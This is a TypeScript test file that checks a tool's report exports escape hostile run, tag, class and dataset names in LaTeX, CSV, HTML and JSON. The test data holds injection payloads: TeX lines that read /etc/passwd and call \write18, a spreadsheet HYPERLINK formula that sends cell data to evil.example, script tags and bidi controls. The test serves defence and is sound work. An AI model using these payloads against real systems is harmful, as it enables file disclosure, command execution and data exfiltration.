/**
 * User text in reports stays text: run names with line breaks, TeX control sequences, spreadsheet
 * formulas and HTML go into every format without becoming code there.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Engine } from '../../../src/main/engine/engine';
import type { TesseraClient } from '../../../src/shared';
import { finishJob, openTestEngine } from '../../helpers/engine';
import { tempDir } from '../../helpers/fixtures';
import { addSemanticRun, importSemantic, noisyPrediction, randomScene, testRandom, type SemanticFixture } from '../metrics/helpers';
import { engineInternals } from '../../../src/main/engine/internals';
import { encodeMask } from '../../../src/main/engine/masks';

const SIZE = { w: 24, h: 16 };
const HOSTILE = [
  'plain',
  'tex\n\\input{/etc/passwd}',
  'crlf\r\n\\immediate\\write18{id}%',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB=1',
  '\rCR=1',
  'a;=1+1',
  '<script>alert(1)</script>&^^J~',
];
/**
 * Names TeX would read as an argument at the start of a table row ("\\\\[-9cm]" is a negative skip,
 * "\\\\*" a no-break), and characters pdflatex cannot set (bidi controls) or must not see (controls).
 */
const ROW_START = [
  '[-9cm] shifted',
  '[v2] run',
  '*starred',
  '\u202Eevil\u202C',
  '\u2066iso\u2069 \u200Fmark\u200E',
  'bell\u0007nel\u0085end',
];
/** Each of ROW_START as both reports show it. */
const ROW_START_SHOWN = ['[-9cm] shifted', '[v2] run', '*starred', 'evil', 'iso mark', 'bell nel end'];
/** Tag names may hold brackets, stars, backslashes and line breaks (not commas, not a leading space). */
const HOSTILE_TAGS = ['[1cm]*tag', 'tag\n\\input{/etc/group}<script>x</script>'];
let t: ReturnType<typeof tempDir>;
let engine: Engine;
let client: TesseraClient;
let fx: SemanticFixture;
let runIds: number[] = [];
let rowStartIds: number[] = [];

beforeAll(async () => {
  t = tempDir('tessera-escape-');
  ({ engine, client } = openTestEngine(join(t.dir, 'ws')));
  const random = testRandom(7);
  const gts = Array.from({ length: 3 }, () => randomScene(random, SIZE.w, SIZE.h, 3, false));
  fx = await importSemantic(client, engine, t.dir, gts, SIZE, 'data');
  // Names given through the API are one line now; a hostile name can still come from a folder name
  // (the default dataset name) or an older store: written straight to the store here.
  engineInternals(engine).db.prepare('UPDATE datasets SET name = ? WHERE id = ?').run('data\n\\input{/etc/hosts}', fx.datasetId);
  for (const name of HOSTILE) {
    addSemanticRun(engine, fx.datasetId, name, new Map(fx.samples.map((s) => [s.sampleId, noisyPrediction(random, s.gt, 3, 0.2)])), SIZE);
  }
  runIds = HOSTILE.map((name) => engineInternals(engine).repos.runs.byName(fx.datasetId, name)!.id);
  for (const name of ROW_START) {
    addSemanticRun(engine, fx.datasetId, name, new Map(fx.samples.map((s) => [s.sampleId, noisyPrediction(random, s.gt, 3, 0.2)])), SIZE);
  }
  rowStartIds = ROW_START.map((name) => engineInternals(engine).repos.runs.byName(fx.datasetId, name)!.id);
  // Class names head the rows of the per-class table, right after its \\midrule.
  const renameClass = engineInternals(engine).db.prepare('UPDATE classes SET name = ? WHERE dataset_id = ? AND idx = ?');
  ['[3cm]bg', '*one', '\u202Etwo'].forEach((name, idx) => renameClass.run(name, fx.datasetId, idx));
  // Tags and a corrected image: the per-tag and corrections tables carry run and tag names too.
  for (const [i, tag] of HOSTILE_TAGS.entries()) await client.call('tags.apply', { tag, imageIds: [fx.samples[i]!.imageId] });
  const region = engineInternals(engine).repos.annotations.currentForSample(fx.samples[2]!.sampleId)[0]!;
  engineInternals(engine).repos.annotations.addVersion({
    annotationId: region.annotationId,
    rle: encodeMask(new Uint8Array(SIZE.w * SIZE.h), SIZE.h, SIZE.w),
    area: 0,
    bbox: [0, 0, 0, 0],
    source: 'edit',
  });
});

afterAll(async () => {
  await engine.close();
  t.cleanup();
});

async function report(format: 'csv' | 'tex' | 'html' | 'json', ids: number[]): Promise<string> {
  const done = await finishJob(client, () => client.call('reports.create', { datasetId: fx.datasetId, runIds: ids, format }));
  expect(done.status, JSON.stringify(done.error)).toBe('succeeded');
  return readFileSync(String(done.result?.['path']), 'utf8');
}

/** RFC 4180 reader: cells may be quoted, with "" for a quote, and hold separators and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

describe('reports escape every user string', () => {
  it('LaTeX: no line break and no control sequence of a name reaches TeX', async () => {
    // Eight runs at most per report: two reports cover all names.
    const tex = (await report('tex', runIds.slice(0, 8))) + (await report('tex', [runIds[0]!, ...runIds.slice(8)]));
    for (const line of tex.split('\n')) {
      // Every line is ours: a comment, a table row, or one of the fixed environment lines.
      expect(line).not.toMatch(/^\\(input|immediate)/);
      expect(line).not.toMatch(/\\(input|write18|immediate)\b/);
    }
    expect(tex).toContain('tex \\textbackslash{}input\\{/etc/passwd\\} &');
    expect(tex).toContain('% run tex \\textbackslash{}input\\{/etc/passwd\\}: model');
    expect(tex).toContain('dataset data \\textbackslash{}input\\{/etc/hosts\\} sha256');
    expect(tex).toContain('crlf  \\textbackslash{}immediate\\textbackslash{}write18\\{id\\}\\% &');
    expect(tex).toContain(
      '\\textless{}script\\textgreater{}alert(1)\\textless{}/script\\textgreater{}\\&\\textasciicircum{}\\textasciicircum{}J\\textasciitilde{}',
    );
    // Run comment lines: exactly one per run of each report.
    expect(tex.split('\n').filter((l) => l.startsWith('% run ')).length).toBe(8 + 4);
    // Tag names in the per-tag table; run names in the per-tag, corrections and per-class wins tables.
    expect(tex).toContain(
      '\ntag \\textbackslash{}input\\{/etc/group\\}\\textless{}script\\textgreater{}x\\textless{}/script\\textgreater{} & ',
    );
    expect(tex).toContain(' & tex \\textbackslash{}input\\{/etc/passwd\\} & 1 & ');
    expect(tex).toContain('\ntex \\textbackslash{}input\\{/etc/passwd\\} & imported & ');
    expect(tex).toContain('\\multicolumn{2}{c}{tex \\textbackslash{}input\\{/etc/passwd\\} vs plain}');
  });

  it('LaTeX: a name starting a table row gives \\\\ or \\midrule no argument', async () => {
    const tex = await report('tex', rowStartIds);
    const lines = tex.split('\n');
    for (const [i, line] of lines.entries()) {
      // \\ looks past the line break for * or [, \toprule and \midrule for [.
      if (i > 0 && /(\\\\|\\(top|mid)rule)$/.test(lines[i - 1]!.trimEnd())) expect(line).not.toMatch(/^\s*[[*]/);
    }
    expect(tex).toContain('\n{[}-9cm{]} shifted & ');
    expect(tex).toContain('\n{[}v2{]} run & ');
    expect(tex).toContain('\n{*}starred & ');
    expect(tex).toContain('\n{[}1cm{]}{*}tag & ');
    expect(tex).toContain('\n{[}-9cm{]} shifted & imported & ');
    expect(tex).toContain('\n{[}3cm{]}bg & ');
    expect(tex).toContain('\n{*}one & ');
    expect(tex).toContain('% run {[}-9cm{]} shifted: model');
  });

  it('LaTeX and HTML show a name alike: bidi controls dropped, control characters as spaces', async () => {
    const tex = await report('tex', rowStartIds);
    const html = await report('html', rowStartIds);
    for (const text of [tex, html]) expect(text.replace(/\n/g, '')).not.toMatch(/[\p{Bidi_Control}\p{Cc}]/u);
    for (const shown of ROW_START_SHOWN.slice(3)) {
      expect(tex).toContain(`\n${shown} & `);
      expect(html).toContain(`<tr><td>${shown}</td>`);
    }
    expect(tex).toContain('\ntwo & ');
    expect(html).toContain('<td>two</td>');
  });

  it('CSV: cells that a spreadsheet would run as formulas start with a quote', async () => {
    const csv = (await report('csv', runIds.slice(0, 8))) + (await report('csv', [runIds[0]!, ...runIds.slice(8)]));
    const [header, ...all] = parseCsv(csv);
    const rows = all.filter((r) => r[0] !== 'dataset');
    const col = (name: string): number => header!.indexOf(name);
    expect(rows.every((r) => r.length === 13)).toBe(true);
    const runs = new Set(rows.map((r) => r[col('run')]));
    expect(runs).toEqual(
      new Set([
        'plain',
        'tex\n\\input{/etc/passwd}',
        'crlf\r\n\\immediate\\write18{id}%',
        `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
        "'+1+cmd",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tTAB=1",
        "'\rCR=1",
        'a;=1+1',
        '<script>alert(1)</script>&^^J~',
      ]),
    );
    for (const r of rows) for (const cell of r.slice(0, col('value'))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers, negative ones too.
    expect(rows.some((r) => r[col('metric')] === 'difference' && /^-?\d/.test(r[col('value')] ?? ''))).toBe(true);
    // The formula and the separator-holding names are quoted on disk.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csv).toContain('"a;=1+1"');
  });

  it('HTML: names are text, and the page itself may load nothing', async () => {
    const html = await report('html', runIds.slice(4, 11));
    expect(html).not.toContain('<script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&amp;');
    // Tag names (per-tag table) and run names in the new tables are text too.
    expect(html).toContain('<tr><td>tag \\input{/etc/group}&lt;script&gt;x&lt;/script&gt;</td><td>-2+3</td>');
    expect(html).toContain('<tr><td>&lt;script&gt;alert(1)&lt;/script&gt;&amp;^^J~</td><td class="num">1</td><td>imported</td>');
    expect(html).toContain('<th class="num">&lt;script&gt;alert(1)&lt;/script&gt;&amp;^^J~ beat +1+cmd</th>');
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'">`,
    );
  });

  it('JSON: names round-trip exactly', async () => {
    const json = JSON.parse(await report('json', runIds.slice(0, 8))) as { runs: Array<{ name: string }> };
    expect(json.runs.map((r) => r.name)).toEqual(HOSTILE.slice(0, 8));
    const exact = JSON.parse(await report('json', rowStartIds)) as { runs: Array<{ name: string }> };
    expect(exact.runs.map((r) => r.name)).toEqual(ROW_START);
  });
});

describe('report file errors', () => {
  it('a report under a file names the path asked for, not its temporary file', async () => {
    const file = join(t.dir, 'afile');
    writeFileSync(file, 'x');
    for (const out of [join(file, 'x.csv'), join(file, 'sub', 'x.csv')]) {
      const done = await finishJob(client, () =>
        client.call('reports.create', { datasetId: fx.datasetId, runIds: [runIds[0]!], format: 'csv', out }),
      );
      expect(done.status).toBe('failed');
      expect(done.error?.message).toBe(`cannot write the report: ${out}: ${file} is a file, not a folder`);
    }
    expect(readFileSync(file, 'utf8')).toBe('x');
  });
});
